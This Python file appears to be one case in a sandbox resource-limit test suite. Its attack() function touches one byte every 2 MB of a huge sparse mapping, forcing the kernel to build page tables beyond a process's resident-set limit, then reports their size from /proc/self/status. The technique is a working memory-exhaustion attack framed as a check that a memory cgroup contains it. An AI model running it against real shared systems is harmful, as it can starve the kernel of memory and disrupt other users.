"""Make the kernel keep page tables for memory that is not there.

Technique: one byte is read in every two megabytes of a sparse mapping. Each shows the common page of zeros, which costs nothing,
    and needs a page table of its own, which is no part of a process's resident set.
Success: the page tables take twice the memory limit.
Stopped by: memory_cgroup
Held when: limit memory
Needs: memory_cgroup
"""
import mmap

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
REACH, TABLE = 2 << 20, 4096
MAP_NORESERVE = 0x4000


def attack():
    tables = 2 * LIMIT // TABLE
    memory = mmap.mmap(-1, tables * REACH, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE)
    for number in range(tables):
        if memory[number * REACH]:
            break
    size = [line for line in open("/proc/self/status") if line.startswith("VmPTE")][0].split()[1]
    return f"page tables of {int(size) >> 10} MB"


def twin():
    """A dense table over a sparse range."""
    memory = mmap.mmap(-1, 1 << 36, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_NORESERVE)
    for offset in range(0, 1 << 36, 1 << 28):
        assert memory[offset] == 0
